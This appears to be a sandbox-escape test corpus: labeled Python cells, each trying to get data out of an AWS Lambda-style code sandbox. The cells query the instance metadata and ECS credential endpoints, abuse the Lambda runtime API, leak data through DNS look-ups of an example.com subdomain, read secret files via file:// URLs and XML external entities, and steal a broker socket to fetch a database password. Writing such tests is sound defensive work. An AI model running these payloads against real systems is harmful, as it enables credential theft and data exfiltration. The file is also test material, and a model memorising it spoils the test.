# Ways out: the network, the metadata service, the runtime API, names.

# %% imds | egress | the metadata service by urllib
import urllib.request
print(urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/", timeout=2).read())

# %% imds-v2 | egress | with a token
import urllib.request
r = urllib.request.Request("http://169.254.169.254/latest/api/token", method="PUT", headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"})
print(urllib.request.urlopen(r, timeout=2).read())

# %% container-credentials | egress | ECS' credential address
import urllib.request
print(urllib.request.urlopen("http://169.254.170.2/v2/credentials/x", timeout=2).read())

# %% runtime-api-next | egress | takes the next invocation from Lambda
import urllib.request, os
api = os.environ.get("AWS_LAMBDA_RUNTIME_API", f"127.0.0.1:{PORT}")
print(urllib.request.urlopen(f"http://{api}/2018-06-01/runtime/invocation/next", timeout=2).read())

# %% runtime-api-response | egress | answers in the function's name
import http.client
c = http.client.HTTPConnection("127.0.0.1", PORT, timeout=2)
c.request("POST", "/2018-06-01/runtime/invocation/request-1/response", '{"success": true}')
print(c.getresponse().status)

# %% runtime-api-error | egress | ends the runtime
import http.client
c = http.client.HTTPConnection("127.0.0.1", PORT, timeout=2)
c.request("POST", "/2018-06-01/runtime/init/error", "{}")
print(c.getresponse().status)

# %% extensions-api | egress | registers an extension
import http.client
c = http.client.HTTPConnection("127.0.0.1", PORT, timeout=2)
c.request("POST", "/2020-01-01/extension/register", '{"events": ["INVOKE"]}', {"Lambda-Extension-Name": "x"})
print(c.getresponse().read())

# %% raw-socket | egress | a socket of another kind
import socket
socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
print(PWNED)

# %% packet-socket | egress | frames
import socket
socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
print(PWNED)

# %% netlink-socket | egress | the kernel's tables
import socket
socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
print(PWNED)

# %% unix-abstract | egress | an abstract socket to another process
import socket
s = socket.socket(socket.AF_UNIX)
s.bind("\0evil")
print(PWNED)

# %% vsock | egress | the hypervisor
import socket
socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
print(PWNED)

# %% udp | egress | a datagram
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b"secret", ("127.0.0.1", 53))

# %% dns | egress | a name as a message
import socket
socket.gethostbyname("c3RvbGVu.example.com")

# %% dns-getaddrinfo | egress | the same by getaddrinfo
import socket
socket.getaddrinfo("c3RvbGVu.example.com", 80)

# %% dns-getfqdn | egress | the same by a reverse look-up
import socket
print(socket.gethostbyaddr("10.9.8.7"))

# %% dns-asyncio | egress | the same by the event loop
import asyncio
async def go():
    print(await asyncio.get_running_loop().getaddrinfo("c3RvbGVu.example.com", 80))
asyncio.run(go())

# %% listen | egress | a port of its own
import socket
s = socket.create_server(("127.0.0.1", 0))
print(PWNED, s.getsockname())

# %% asyncio-server | egress | a server by asyncio
import asyncio
async def go():
    s = await asyncio.start_server(lambda r, w: None, "127.0.0.1", 0)
    print(PWNED, s)
asyncio.run(go())

# %% asyncio-socket | egress | the loop's own socket pair
import asyncio
async def go():
    loop = asyncio.get_running_loop()
    s = loop._ssock
    print(type(s))
    t = type(s)(2, 1)
    t.connect(("127.0.0.1", PORT))
asyncio.run(go())

# %% asyncio-datagram | egress | a datagram endpoint
import asyncio
async def go():
    t, p = await asyncio.get_running_loop().create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=("127.0.0.1", 53))
    t.sendto(b"stolen")
    await asyncio.sleep(0.1)
asyncio.run(go())

# %% asyncio-pipe-attr | process | asyncio's own modules
import asyncio
for path in ("base_events.socket", "base_events.subprocess", "unix_events.os", "unix_events.subprocess", "selector_events.socket", "sslproto", "subprocess.subprocess", "events.socket", "events.subprocess"):
    m = asyncio
    try:
        for part in path.split("."):
            m = getattr(m, part)
        print(path, m)
        if hasattr(m, "check_output"):
            print(PWNED, m.check_output(["echo", "a"]))
        if hasattr(m, "create_connection"):
            m.create_connection(("127.0.0.1", PORT), 1)
        if hasattr(m, "system"):
            m.system(f"touch {OUTSIDE}/marker")
    except BaseException as e:
        print(path, repr(e)[:80])

# %% asyncio-fd | egress | a socket from an inherited descriptor
import asyncio, socket
for fd in range(3, 32):
    try:
        s = socket.socket(fileno=fd)
        print(PWNED, fd, s)
    except BaseException as e:
        print(repr(e)[:80])

# %% urllib-parse-leads | egress | urllib.parse to urllib.request
import urllib.parse
import sys
u = sys.modules.get("urllib.request")
print(u and u.urlopen(f"http://127.0.0.1:{PORT}/").read())

# %% urllib-file | secret | a file by URL
import urllib.request
print(urllib.request.urlopen(f"file://{SECRET_FILE}").read())

# %% urllib-opener | egress | an opener class by hand
from urllib.request import build_opener, HTTPHandler
print(build_opener(HTTPHandler).open(f"http://127.0.0.1:{PORT}/").read())

# %% http-status-only | egress | http.HTTPStatus leads to http.client
import http
print(http.HTTPStatus.OK)
print(http.client.HTTPConnection("127.0.0.1", PORT).request("GET", "/"))

# %% http-server | egress | a server of pages
import http.server
s = http.server.HTTPServer(("127.0.0.1", 0), http.server.BaseHTTPRequestHandler)
print(PWNED, s.server_port)

# %% xmlrpc | egress | a remote call
import xmlrpc.client
xmlrpc.client.ServerProxy(f"http://127.0.0.1:{PORT}").system.listMethods()

# %% xml-entity | secret | an external entity
import xml.etree.ElementTree as E
print(E.tostring(E.fromstring(f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{SECRET_FILE}">]><a>&x;</a>')))

# %% xml-sax | egress | an external entity by sax
import xml.sax, xml.sax.handler, io
class H(xml.sax.handler.ContentHandler):
    def characters(self, c):
        print(c)
p = xml.sax.make_parser()
p.setFeature(xml.sax.handler.feature_external_ges, True)
p.setContentHandler(H())
p.parse(io.StringIO(f'<!DOCTYPE a [<!ENTITY x SYSTEM "http://127.0.0.1:{PORT}/">]><a>&x;</a>'))

# %% imaplib | egress | mail
import imaplib
imaplib.IMAP4("127.0.0.1", PORT)

# %% poplib | egress | mail
import poplib
poplib.POP3("127.0.0.1", PORT)

# %% socketserver | egress | a server
import socketserver
print(PWNED, socketserver.TCPServer(("127.0.0.1", 0), None).server_address)

# %% ssl | egress | a certificate of a server
import ssl
ssl.get_server_certificate(("127.0.0.1", PORT), timeout=2)

# %% ipaddress-only | egress | what is allowed has no sockets inside
import ipaddress, sys
m = sys.modules.get("socket") or sys.modules.get("_socket")
s = m.socket()
s.connect(("127.0.0.1", PORT))

# %% botocore-awsrequest | egress | botocore's connection classes
from botocore.awsrequest import AWSHTTPConnection
c = AWSHTTPConnection("127.0.0.1", PORT)
c.connect()

# %% botocore-get | egress | a whole request by botocore
import botocore.session
s = botocore.session.get_session()
from botocore.httpsession import URLLib3Session
from botocore.awsrequest import AWSRequest
print(URLLib3Session().send(AWSRequest("GET", "http://169.254.169.254/").prepare()).text)

# %% rpc-socket-steal | secret | the broker's socket found among its descriptors
import os, stat
for fd in range(0, 256):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            print("socket", fd)
            os.write(fd, b'{"service": "secretsmanager", "operation": "GetSecretValue", "params": {"SecretId": "db/password"}}\n')
            print(os.read(fd, 4096))
    except BaseException:
        pass

# %% rpc-object-steal | egress | the broker's socket found in a closure
import botocore.client
def dig(o, depth=0, seen=set()):
    if id(o) in seen or depth > 6:
        return
    seen.add(id(o))
    if hasattr(o, "sendall") and hasattr(o, "fileno"):
        print("found", o)
        t = type(o)(2, 1)
        t.connect(("127.0.0.1", PORT))
    for a in ("__closure__", "__func__", "__self__", "__wrapped__", "__globals__", "__dict__", "__defaults__", "cell_contents"):
        try:
            v = getattr(o, a)
        except BaseException:
            continue
        for x in (v.values() if isinstance(v, dict) else v if isinstance(v, tuple) else [v]):
            dig(x, depth + 1)
dig(botocore.client.BaseClient._make_api_call)
